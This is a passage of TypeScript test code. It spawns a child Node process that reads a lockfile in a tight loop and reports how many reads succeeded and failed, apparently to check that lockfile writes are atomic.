  const lockfileModule = fileURLToPath(new URL('../../dist/team/lockfile.js', import.meta.url));
  const script = `
    const { readLockfile } = await import(${JSON.stringify(lockfileModule)});
    let whole = 0, failures = 0, firstFailure = '', stop = false;
    process.stdin.on('data', () => { stop = true; });
    process.stdout.write('ready\\n');
    while (!stop) {
      try {
        const lock = await readLockfile(${JSON.stringify(file)});
        if (lock === undefined) throw new Error('no lockfile');
        whole += 1;
      } catch (error) {
        failures += 1;
        firstFailure ||= String(error && error.message);
      }
      await new Promise((resolve) => setImmediate(resolve));
    }
    process.stdout.write(JSON.stringify({ whole, failures, firstFailure }), () => process.exit(0));
  `;
  const child = spawn(process.execPath, ['--input-type=module', '-e', script], { stdio: ['pipe', 'pipe', 'inherit'] });
  let out = '';
  const closed = new Promise<void>((resolve) => child.once('close', () => resolve()));
  await new Promise<void>((resolve, reject) => {
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
      out += chunk;
      if (out.startsWith('ready\n')) resolve();
    });
    void closed.then(() => reject(new Error(`the reader exited before it was ready: ${out}`)));
  });
  return {
    async stop() {
      child.stdin.write('stop\n');
      await closed;
      return JSON.parse(out.slice('ready\n'.length)) as { whole: number; failures: number; firstFailure: string };
    },
  };
}
